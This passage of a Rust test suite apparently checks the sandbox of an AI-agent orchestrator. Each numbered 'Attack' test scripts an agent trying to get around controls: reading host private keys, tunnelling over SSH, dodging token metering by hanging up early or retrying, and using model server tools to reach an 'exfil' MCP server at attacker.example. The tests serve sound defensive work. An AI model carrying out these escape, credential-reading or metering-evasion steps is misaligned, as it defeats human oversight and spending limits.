            ("AO__SANDBOX__NETWORK_OPEN", "coder"),
        ],
    )
    .await;
    let id = submit(&c, &repo, "agent/links").await;
    let done = finished(&c, &id).await;
    assert_eq!(done["status"], "succeeded", "{done:#}\n{}", c.logs());
    let links = git(&repo, &["show", "agent/links:links.txt"]);
    assert!(!links.contains("linked"), "{links}");
    assert!(!links.contains(&format!("-secret-{mark}")), "{links}");
    for secret in [&hidden, &in_repo] {
        let nlink = std::fs::metadata(secret).expect("secret").nlink();
        assert_eq!(nlink, 1, "{} gained a link\n{links}", secret.display());
    }
}
for_both_workers!(no_secret_file_is_reachable_by_a_hard_link:
    no_secret_file_is_reachable_by_a_hard_link_root_worker,
    no_secret_file_is_reachable_by_a_hard_link_ordinary_worker);

/// Attack 14: the agent uses the model endpoint for calls the proxy does not meter
/// (`/v1/complete`, `/v1/messages/batches`, `/v1/files`, `/v1/models`, a `GET` of
/// `/v1/messages`), which would carry the worker's key unmetered (before: each was
/// forwarded with the key). Each is refused with a clear error and never reaches the
/// model API; `count_tokens` (free) still does.
async fn only_metered_model_calls_are_forwarded(who: Worker) {
    use ao_tests::model_server::ModelServer;
    let Some(mut c) = cluster(who, &[]) else {
        return;
    };
    let model = ModelServer::start(Vec::new()).await;
    let root = c.dir.path().to_path_buf();
    let repo = bare_repo(&root, "project", &[]);
    let body = format!(
        "for p in /v1/complete /v1/messages/batches /v1/files /v1/models /v1/messages/count_tokens; do\n\
           echo \"$p $({call})\"\n\
         done\n\
         echo \"GET /v1/messages $(curl -s -o /dev/null -w '%{{http_code}}' \"$ANTHROPIC_BASE_URL/v1/messages\")\"\n\
         echo \"body: $(curl -s \"$ANTHROPIC_BASE_URL/v1/files\" -d x)\"\n\
         echo change > change.txt",
        call = model_call("$p")
    );
    start(
        &mut c,
        &body,
        &[
            ("AO_TEST_MODEL_KEY", "sk-ant-unmetered-0123456789"),
            ("AO__AGENT__API_KEY", "env:AO_TEST_MODEL_KEY"),
            ("AO__AGENT__BASE_URL", model.url.as_str()),
        ],
    )
    .await;
    let id = submit(&c, &repo, "agent/paths").await;
    let done = finished(&c, &id).await;
    assert_eq!(done["status"], "succeeded", "{done:#}\n{}", c.logs());
    let text = event_text(&c, &id).await;
    let forwarded: Vec<String> = model
        .other_requests()
        .into_iter()
        .map(|(method, path, _)| format!("{method} {path}"))
        .collect();
    assert_eq!(
        forwarded,
        vec!["POST /v1/messages/count_tokens".to_string()],
        "\n{text}"
    );
    for refused in [
        "/v1/complete 404",
        "/v1/messages/batches 404",
        "/v1/files 404",
        "/v1/models 404",
        "GET /v1/messages 404",
    ] {
        assert!(text.contains(refused), "{refused} missing\n{text}");
    }
    assert!(text.contains("only POST /v1/messages"), "{text}");
}
for_both_workers!(only_metered_model_calls_are_forwarded:
    only_metered_model_calls_are_forwarded_root_worker,
    only_metered_model_calls_are_forwarded_ordinary_worker);

/// Attack 15: the agent tries hosts off the allow-list, one of them 150 times (past the
/// per-refusal event cap). The run's events end with one `network_refused` event
/// listing every refused destination with its count and first and last time, so the
/// refusals can be shown with the run's result (before: only the first 100 refusals,
/// one event each, and no list).
async fn refused_hosts_are_listed_with_the_result(who: Worker) {
    let Some(mut c) = cluster(who, &[]) else {
        return;
    };
    let root = c.dir.path().to_path_buf();
    let repo = bare_repo(&root, "project", &[]);
    let body = r#"
set +e
for i in $(seq 150); do curl -s -o /dev/null -m 5 https://flood.example.invalid/; done
curl -s -o /dev/null -m 5 https://other.example.invalid:8443/
curl -s -o /dev/null -m 5 http://plain.example.invalid/x
echo change > change.txt
"#;
    start(&mut c, body, &[]).await;
    let id = submit(&c, &repo, "agent/refused").await;
    let done = finished(&c, &id).await;
    assert_eq!(done["status"], "succeeded", "{done:#}\n{}", c.logs());
    let all = events(&c, &id).await;
    let listed: Vec<&Value> = all
        .iter()
        .filter(|e| e["data"]["type"] == "network_refused")
        .collect();
    assert_eq!(listed.len(), 1, "{listed:?}");
    let list = &listed[0]["data"]["event"];
    let refused = list["refused"].as_array().expect("refused list");
    let find = |host: &str, port: u64| {
        refused
            .iter()
            .find(|r| r["host"] == host && r["port"] == port)
            .unwrap_or_else(|| panic!("{host}:{port} not listed: {list:#}"))
    };
    assert_eq!(find("flood.example.invalid", 443)["count"], 150, "{list:#}");
    assert_eq!(find("other.example.invalid", 8443)["count"], 1, "{list:#}");
    assert_eq!(find("plain.example.invalid", 80)["count"], 1, "{list:#}");
    for r in refused {
        assert!(r["first_at"].is_string() && r["last_at"].is_string(), "{r}");
    }
    assert_eq!(list["total"], 152, "{list:#}");
}
for_both_workers!(refused_hosts_are_listed_with_the_result:
    refused_hosts_are_listed_with_the_result_root_worker,
    refused_hosts_are_listed_with_the_result_ordinary_worker);

/// Attack 16: the agent uses SSH to get out: `ssh` and `git ls-remote` over `ssh://` to a
/// host service, and an SSH-style tunnel through the proxy (`CONNECT host:port`). The
/// sandbox's network namespace has no route out, and the proxy tunnels only to the
/// allow-list: nothing reaches the service, and the tunnel is refused and reported.
async fn ssh_gives_no_way_out_of_the_allow_list(who: Worker) {
    let Some(mut c) = cluster(who, &[]) else {
        return;
    };
    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
    let port = listener.local_addr().expect("addr").port();
    let hits = Arc::new(AtomicUsize::new(0));
    {
        let hits = hits.clone();
        std::thread::spawn(move || {
            for mut stream in listener.incoming().flatten() {
                hits.fetch_add(1, Ordering::SeqCst);
                let _ = stream.write_all(b"SSH-2.0-OpenSSH_9.6\r\n");
            }
        });
    }
    let root = c.dir.path().to_path_buf();
    let repo = bare_repo(&root, "project", &[]);
    let body = format!(
        r#"
set +e
ssh -o BatchMode=yes -o ConnectTimeout=3 -o StrictHostKeyChecking=no -p {port} git@127.0.0.1 true 2>&1 | tail -1 | sed 's/^/ssh: /'
GIT_SSH_COMMAND='ssh -oBatchMode=yes -oConnectTimeout=3 -oStrictHostKeyChecking=no' \
  git ls-remote ssh://git@127.0.0.1:{port}/x.git 2>&1 | tail -1 | sed 's/^/ls-remote: /'
echo "tunnel: $(curl -s -m 5 -p -x "$HTTPS_PROXY" telnet://127.0.0.1:{port} </dev/null 2>&1; echo "exit $?")"
echo change > change.txt
"#
    );
    start(&mut c, &body, &[]).await;
    let id = submit(&c, &repo, "agent/ssh").await;
    let done = finished(&c, &id).await;
    assert_eq!(done["status"], "succeeded", "{done:#}\n{}", c.logs());
    let text = event_text(&c, &id).await;
    // ssh ran, and found nothing listening in the sandbox's own network namespace.
    assert!(
        text.contains(&format!("port {port}: Connection refused")),
        "{text}"
    );
    assert_eq!(
        hits.load(Ordering::SeqCst),
        0,
        "the host service was reached\n{text}"
    );
    let all = events(&c, &id).await;
    let tunnel_denied = all.iter().any(|e| {
        e["data"]["type"] == "network_denied"
            && e["data"]["event"]["host"] == "127.0.0.1"
            && e["data"]["event"]["port"] == u64::from(port)
    });
    assert!(tunnel_denied, "the tunnel was not reported\n{text}");
}
for_both_workers!(ssh_gives_no_way_out_of_the_allow_list:
    ssh_gives_no_way_out_of_the_allow_list_root_worker,
    ssh_gives_no_way_out_of_the_allow_list_ordinary_worker);

/// Attack 17: the agent finds the setup cache's incoming directory of its run in the run
/// spec (a warm start of a repository with a `[setup]` cache) and writes 64 MiB into it:
/// a host directory (before: written, unbounded). The setup result leaves over a pipe
/// instead; the write fails, and the setup cache still works (the next run restores).
async fn the_setup_cache_is_no_writable_host_place(who: Worker) {
    let Some(mut c) = cluster(who, &[]) else {
        return;
    };
    let root = c.dir.path().to_path_buf();
    let repo = bare_repo(
        &root,
        "project",
        &[
            (
                "agent-setup.sh",
                "mkdir -p deps && date +%s%N > deps/stamp\n",
            ),
            (
                ".agent-orchestrator.toml",
                "[setup]\ncache = [\"deps\"]\nkey = [\"deps.lock\"]\n",
            ),
            ("deps.lock", "v1\n"),
        ],
    );
    let body = r#"
set +e
store=$(python3 -c 'import json; print((json.load(open("../../spec.json")).get("warm", {}).get("setup") or {}).get("store") or "")')
if [ -n "$store" ] && dd if=/dev/zero of="$store/fill" bs=1M count=64 2>/dev/null; then echo "store=filled"; else echo "store=bounded"; fi > probe.txt
rm -f "$store/fill"
echo "stamp=$(cat deps/stamp)" >> probe.txt
"#;
    start(&mut c, body, &[]).await;
    let first = submit(&c, &repo, "agent/store-1").await;
    let done = finished(&c, &first).await;
    assert_eq!(done["status"], "succeeded", "{done:#}\n{}", c.logs());
    let probe = git(&repo, &["show", "agent/store-1:probe.txt"]);
    assert!(probe.contains("store=bounded"), "{probe}");
    let second = submit(&c, &repo, "agent/store-2").await;
    let done = finished(&c, &second).await;
    assert_eq!(done["status"], "succeeded", "{done:#}\n{}", c.logs());
    let again = git(&repo, &["show", "agent/store-2:probe.txt"]);
    let stamp = |p: &str| {
        p.lines()
            .find_map(|l| l.strip_prefix("stamp="))
            .unwrap_or_default()
            .to_string()
    };
    assert!(!stamp(&probe).is_empty(), "{probe}");
    assert_eq!(
        stamp(&again),
        stamp(&probe),
        "the setup result was not restored"
    );
}
for_both_workers!(the_setup_cache_is_no_writable_host_place:
    the_setup_cache_is_no_writable_host_place_root_worker,
    the_setup_cache_is_no_writable_host_place_ordinary_worker);

/// A model API stand-in that streams an answer the way the real one does: the start
/// (with the input count) and the text at once, then, `gap` later, the `message_delta`
/// carrying the output count (`output_tokens`), then the end. Counts the calls.
fn slow_usage_model(gap: Duration, output_tokens: u64) -> (String, Arc<AtomicUsize>) {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
    let url = format!("http://{}", listener.local_addr().expect("addr"));
    let calls = Arc::new(AtomicUsize::new(0));
    let counter = calls.clone();
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            let counter = counter.clone();
            std::thread::spawn(move || {
                let mut s = stream;
                let _ = s.set_read_timeout(Some(Duration::from_millis(300)));
                let mut buf = [0u8; 65536];
                let mut got = Vec::new();
                while let Ok(n) = s.read(&mut buf) {
                    if n == 0 {
                        break;
                    }
                    got.extend_from_slice(&buf[..n]);
                }
                counter.fetch_add(1, Ordering::SeqCst);
                let start = "event: message_start\ndata: {\"type\":\"message_start\",\"message\":{\"id\":\"m\",\"type\":\"message\",\"role\":\"assistant\",\"model\":\"claude-sonnet-4-5\",\"content\":[],\"usage\":{\"input_tokens\":10,\"output_tokens\":1}}}\n\n\
                    event: content_block_start\ndata: {\"type\":\"content_block_start\",\"index\":0,\"content_block\":{\"type\":\"text\",\"text\":\"\"}}\n\n\
                    event: content_block_delta\ndata: {\"type\":\"content_block_delta\",\"index\":0,\"delta\":{\"type\":\"text_delta\",\"text\":\"ALL-THE-TEXT\"}}\n\n\
                    event: content_block_stop\ndata: {\"type\":\"content_block_stop\",\"index\":0}\n\n";
                let head = "HTTP/1.1 200 OK\r\ncontent-type: text/event-stream\r\nconnection: close\r\n\r\n";
                let _ = s.write_all(head.as_bytes());
                let _ = s.write_all(start.as_bytes());
                let _ = s.flush();
                std::thread::sleep(gap);
                let end = format!(
                    "event: message_delta\ndata: {{\"type\":\"message_delta\",\"delta\":{{\"stop_reason\":\"end_turn\"}},\"usage\":{{\"output_tokens\":{output_tokens}}}}}\n\n\
                     event: message_stop\ndata: {{\"type\":\"message_stop\"}}\n\n"
                );
                let _ = s.write_all(end.as_bytes());
            });
        }
    });
    (url, calls)
}

/// Attack 18: make model calls unmetered by hanging up before the usage arrives. The
/// output count comes in the last events of a stream, after the text; the agent reads
/// the text and closes the connection. Before, the proxy metered only what it relayed:
/// three calls of $15 each (a million output tokens) were charged $0.0001 in all, so no
/// budget was ever reached. The proxy now reads every answer to its end, whoever hangs
/// up, and the run's end waits for those reads: the run is charged every answer whole.
async fn hanging_up_early_still_meters_the_answer(who: Worker) {
    let Some(mut c) = cluster(who, &[]) else {
        return;
    };
    let (url, calls) = slow_usage_model(Duration::from_secs(4), 1_000_000);
    let repo = bare_repo(c.dir.path(), "project", &[]);
    let call = "curl -sN --max-time 2 -H 'content-type: application/json' \
         -H 'anthropic-version: 2023-06-01' \"$ANTHROPIC_BASE_URL/v1/messages\" \
         -d '{\"model\":\"claude-sonnet-4-5\",\"max_tokens\":10,\"stream\":true,\"messages\":[{\"role\":\"user\",\"content\":\"x\"}]}' \
         | grep -o ALL-THE-TEXT";
    let body =
        format!("for i in 1 2 3; do echo \"call $i: $({call})\"; done\necho work > work.txt\n");
    start(
        &mut c,
        &body,
        &[
            ("AO_TEST_MODEL_KEY", "sk-ant-hangup-0123456789"),
            ("AO__AGENT__API_KEY", "env:AO_TEST_MODEL_KEY"),
            ("AO__AGENT__BASE_URL", url.as_str()),
            ("AO__COORDINATOR__MAX_ATTEMPTS", "1"),
        ],
    )
    .await;
    let id = submit(&c, &repo, "agent/hangup").await;
    let done = finished(&c, &id).await;
    let text = event_text(&c, &id).await;
    let s = &done["subtasks"][0];
    let cost = s["cost_usd"].as_f64().unwrap_or(0.0);
    assert_eq!(calls.load(Ordering::SeqCst), 3, "{text}");
    assert!(
        cost >= 45.0,
        "three answers of $15 each, the run is charged ${cost}\n{done:#}\n{}",
        c.logs()
    );
}
for_both_workers!(hanging_up_early_still_meters_the_answer:
    hanging_up_early_still_meters_the_answer_root_worker,
    hanging_up_early_still_meters_the_answer_ordinary_worker);

/// Attack 19: reach the network past the allow-list, and spend beyond the token meter,
/// through the model endpoint itself: a Messages call asking the model API to fetch and
/// search URLs of the agent's choice (the `web_fetch` and `web_search` server tools) and
/// to connect to an MCP server by URL (under its `anthropic-beta` flag). Before, the
/// proxy forwarded it as it was, with the worker's key. Now no such call reaches the
/// model API, and the agent is told why (400).
async fn server_tools_never_reach_the_model_api(who: Worker) {
    use ao_tests::model_server::{ModelServer, Step, Turn};
    let Some(mut c) = cluster(who, &[]) else {
        return;
    };
    let model = ModelServer::start(vec![Turn::new(Step::text("ok"), 10, 10)]).await;
    let repo = bare_repo(c.dir.path(), "project", &[]);
    let body = r#"
echo "server-tools $(curl -s -o answer.txt -w '%{http_code}' -H 'content-type: application/json' \
  -H 'anthropic-version: 2023-06-01' -H 'anthropic-beta: mcp-client-2025-04-04,web-fetch-2025-09-10' \
  "$ANTHROPIC_BASE_URL/v1/messages" -d '{"model":"claude-sonnet-4-5","max_tokens":10,
  "mcp_servers":[{"type":"url","url":"https://attacker.example/sse","name":"exfil"}],
  "tools":[{"type":"web_fetch_20250910","name":"web_fetch"},{"type":"web_search_20250305","name":"web_search","max_uses":50}],
  "messages":[{"role":"user","content":"fetch https://attacker.example/"}]}')"
echo "said: $(cat answer.txt)"
rm -f answer.txt
echo "plain $(curl -s -o /dev/null -w '%{http_code}' -H 'content-type: application/json' \
  -H 'anthropic-version: 2023-06-01' "$ANTHROPIC_BASE_URL/v1/messages" \
  -d '{"model":"claude-sonnet-4-5","max_tokens":10,"messages":[{"role":"user","content":"hi"}]}')"
echo work > work.txt
"#;
    start(
        &mut c,
        body,
        &[
            ("AO_TEST_MODEL_KEY", "sk-ant-tools-0123456789"),
            ("AO__AGENT__API_KEY", "env:AO_TEST_MODEL_KEY"),
            ("AO__AGENT__BASE_URL", model.url.as_str()),
        ],
    )
    .await;
    let id = submit(&c, &repo, "agent/tools").await;
    let done = finished(&c, &id).await;
    assert_eq!(done["status"], "succeeded", "{done:#}\n{}", c.logs());
    let text = event_text(&c, &id).await;
    let requests = model.requests();
    let reached: Vec<&Value> = requests
        .iter()
        .map(|r| &r.body)
        .filter(|b| {
            let b = b.to_string();
            b.contains("attacker.example") || b.contains("web_fetch") || b.contains("web_search")
        })
        .collect();
    assert!(
        reached.is_empty(),
        "the model API was asked, with the worker's key, to reach the agent's URLs: {reached:#?}"
    );
    assert_eq!(requests.len(), 1, "the plain call still passes\n{text}");
    assert!(text.contains("server-tools 400"), "{text}");
    assert!(
        text.contains("does not forward server-side tools"),
        "{text}"
    );
    assert!(text.contains("plain 200"), "{text}");
}
for_both_workers!(server_tools_never_reach_the_model_api:
    server_tools_never_reach_the_model_api_root_worker,
    server_tools_never_reach_the_model_api_ordinary_worker);

/// Attack 20: spend past the budget by failing each attempt in a retryable way. Each
/// attempt makes one $0.30 model call (under the $0.50 budget) and then leaves an
/// unreadable file, so that the runner's `git add` fails: an infrastructure failure,
/// retried. Before, each retry started with a fresh budget: three calls, $0.90. Now the
/// retries share the subtask's budget: the second attempt has $0.20 left, its call
/// crosses it and the subtask ends `budget_exceeded` without a third run.
async fn retries_share_the_budget(who: Worker) {
    use ao_tests::model_server::{ModelServer, Step, Turn};
    let Some(mut c) = cluster(who, &[]) else {
        return;
    };
    // 100,000 input tokens at $3 per million: $0.30 a call.
    let turns = (0..3)
        .map(|_| Turn::new(Step::text("ok"), 100_000, 1))
        .collect();
    let model = ModelServer::start(turns).await;
    let repo = bare_repo(c.dir.path(), "project", &[]);
    let body = format!(
        "cat > /dev/null\n\
         echo '{{\"type\":\"system\",\"subtype\":\"init\",\"session_id\":\"s1\",\"model\":\"claude-sonnet-4-5\",\"tools\":[],\"mcp_servers\":[]}}'\n\
         echo \"call $({call})\" >&2\n\
         echo work > work.txt\necho x > locked.txt\nchmod 000 locked.txt\n\
         echo '{{\"type\":\"result\",\"subtype\":\"success\",\"is_error\":false,\"num_turns\":1,\"total_cost_usd\":0.3,\"duration_ms\":100,\"result\":\"done\"}}'\n",
        call = model_call("/v1/messages")
    );
    start(
        &mut c,
        &body,
        &[
            ("AO_TEST_MODEL_KEY", "sk-ant-retry-0123456789"),
            ("AO__AGENT__API_KEY", "env:AO_TEST_MODEL_KEY"),
            ("AO__AGENT__BASE_URL", model.url.as_str()),
            ("AO__AGENT__KIND", "claude"),
            ("AO__AGENT__PROFILES__CODER__MAX_COST_USD", "0.5"),
            ("AO__COORDINATOR__MAX_ATTEMPTS", "3"),
        ],
    )
    .await;
    let id = submit(&c, &repo, "agent/retry").await;
    let done = finished(&c, &id).await;
    let calls = model.requests().len();
    let s = &done["subtasks"][0];
    assert_eq!(
        calls,
        2,
        "calls under a $0.50 budget shared by the retries\n{done:#}\n{}",
        c.logs()
    );
    assert_eq!(s["outcome"]["kind"], "budget_exceeded", "{done:#}");
    let cost = s["cost_usd"].as_f64().unwrap_or(0.0);
    assert!((cost - 0.6).abs() < 0.01, "cost {cost}\n{done:#}");
}
for_both_workers!(retries_share_the_budget:
    retries_share_the_budget_root_worker,
    retries_share_the_budget_ordinary_worker);

/// Attack 21: the agent reads files of the host that no setting names: a 0600 key of
/// the worker's own user under `/opt` (a coordinator's GitHub App key beside it, a
/// deploy key), a world-readable one under `/srv`, and lists the directories there.
/// The sandbox is shown the host's system directories only, so neither place exists
/// inside (before: both keys were read by an ordinary-user worker's agent, the
/// world-readable one by a root worker's too).
async fn files_of_the_host_outside_the_system_directories_are_unseen(who: Worker) {
    use std::os::unix::fs::{chown, PermissionsExt};
    let Some(mut c) = cluster(who, &[]) else {
        return;
    };
    let tag = format!("ao-attack-{}-{who:?}", std::process::id());
    let mut dirs = Vec::new();
    for (root, mode, secret) in [
        ("/opt", 0o600, "HOST-USER-KEY-7781"),
        ("/srv", 0o644, "WORLD-READABLE-KEY-7782"),
    ] {
        let dir = Path::new(root).join(&tag);
        std::fs::create_dir_all(&dir).expect("mkdir");
        std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(0o755)).expect("chmod");
        let key = dir.join("app-private-key.pem");
        std::fs::write(&key, secret).expect("write key");
        std::fs::set_permissions(&key, std::fs::Permissions::from_mode(mode)).expect("chmod");
        // Owned by the user an ordinary worker runs as (a root worker's: root).
        if running_as_root() && matches!(who, Worker::Ordinary) {
            if let Some((uid, gid)) = test_user() {
                chown(&key, Some(uid), Some(gid)).expect("chown");
            }
        }
        dirs.push(dir);
    }
    let repo = bare_repo(c.dir.path(), "project", &[]);
    let body = format!(
        "{{ for d in {} {}; do echo \"read: $(cat $d/app-private-key.pem 2>&1)\"; done; \
         echo \"ls: $(ls / /opt /srv 2>&1 | tr '\\n' ' ')\"; }} > seen.txt\n",
        dirs[0].display(),
        dirs[1].display()
    );
    start(&mut c, &body, &[]).await;
    let id = submit(&c, &repo, "agent/hostfiles").await;
    let done = finished(&c, &id).await;
    for dir in &dirs {
        let _ = std::fs::remove_dir_all(dir);
    }
    assert_eq!(done["status"], "succeeded", "{done:#}\n{}", c.logs());
    let seen = git(&repo, &["show", "agent/hostfiles:seen.txt"]);
    assert!(seen.contains("read: "), "{seen}");
    for secret in ["HOST-USER-KEY-7781", "WORLD-READABLE-KEY-7782"] {
        assert!(!seen.contains(secret), "{secret} read:\n{seen}");
    }
    let listing = seen.split("ls: ").nth(1).expect("listing");
    assert!(
        !listing.contains(&tag),
        "the directories are listed:\n{seen}"
    );
}
for_both_workers!(files_of_the_host_outside_the_system_directories_are_unseen:
    files_of_the_host_outside_the_system_directories_are_unseen_root_worker,
    files_of_the_host_outside_the_system_directories_are_unseen_ordinary_worker);

/// Attack 22: the agent reads files of its own host user inside the system directories
/// the sandbox is shown: a 0600 key owned by that user under `/etc`, a 0640 one of its
/// group, and a file in a 0700 directory of that user under `/usr/local`. The sandbox
/// runs as that user (an ordinary worker's own, a root worker's `sandbox.host_uid`), so
/// the permissions let it. Only what every user of the host may read is shown: each is
/// covered, while world-readable files (`/etc/passwd`, the tag's own `public.txt`) stay
/// (before: all three keys were read).
async fn files_of_the_sandbox_user_in_system_directories_are_unseen(who: Worker) {
    use std::os::unix::fs::{chown, PermissionsExt};
    if !running_as_root() {
        eprintln!("skipped: placing files under /etc needs the tests to run as root");
        return;
    }
    let Some(mut c) = cluster(who, &[]) else {
        return;
    };
    let (uid, gid) = test_user().expect("test user");
    let tag = format!("ao-attack-{}-{who:?}", std::process::id());
    let etc = Path::new("/etc").join(&tag);
    let usr = Path::new("/usr/local").join(&tag);
    let mode = |path: &Path, mode: u32| {
        std::fs::set_permissions(path, std::fs::Permissions::from_mode(mode)).expect("chmod");
        chown(path, Some(uid), Some(gid)).expect("chown");
    };
    std::fs::create_dir_all(&etc).expect("mkdir");
    std::fs::create_dir_all(&usr).expect("mkdir");
    mode(&etc, 0o755);
    std::fs::write(etc.join("owner.key"), "OWNER-ONLY-KEY-8811").expect("write");
    mode(&etc.join("owner.key"), 0o600);
    std::fs::write(etc.join("group.key"), "GROUP-KEY-8812").expect("write");
    mode(&etc.join("group.key"), 0o640);
    chown(etc.join("group.key"), Some(0), Some(gid)).expect("chown");
    std::fs::write(etc.join("public.txt"), "PUBLIC-8814").expect("write");
    mode(&etc.join("public.txt"), 0o644);
    mode(&usr, 0o700);
    std::fs::write(usr.join("token"), "PRIVATE-DIR-KEY-8813").expect("write");
    mode(&usr.join("token"), 0o644);
    let repo = bare_repo(c.dir.path(), "project", &[]);
    let body = format!(
        "{{ for f in {e}/owner.key {e}/group.key {u}/token {e}/public.txt; do \
         echo \"read $f: $(cat $f 2>&1)\"; done; \
         echo \"passwd: $(head -c 5 /etc/passwd)\"; }} > seen.txt\n",
        e = etc.display(),
        u = usr.display()
    );
    start(&mut c, &body, &[]).await;
    let id = submit(&c, &repo, "agent/sysfiles").await;
    let done = finished(&c, &id).await;
    let _ = std::fs::remove_dir_all(&etc);
    let _ = std::fs::remove_dir_all(&usr);
    assert_eq!(done["status"], "succeeded", "{done:#}\n{}", c.logs());
    let seen = git(&repo, &["show", "agent/sysfiles:seen.txt"]);
    for secret in [
        "OWNER-ONLY-KEY-8811",
        "GROUP-KEY-8812",
        "PRIVATE-DIR-KEY-8813",
    ] {
        assert!(!seen.contains(secret), "{secret} read:\n{seen}");
    }
    assert!(
        seen.contains("PUBLIC-8814"),
        "world-readable hidden:\n{seen}"
    );
    assert!(
        seen.contains("passwd: root:"),
        "/etc/passwd hidden:\n{seen}"
    );
}
for_both_workers!(files_of_the_sandbox_user_in_system_directories_are_unseen:
    files_of_the_sandbox_user_in_system_directories_are_unseen_root_worker,
    files_of_the_sandbox_user_in_system_directories_are_unseen_ordinary_worker);
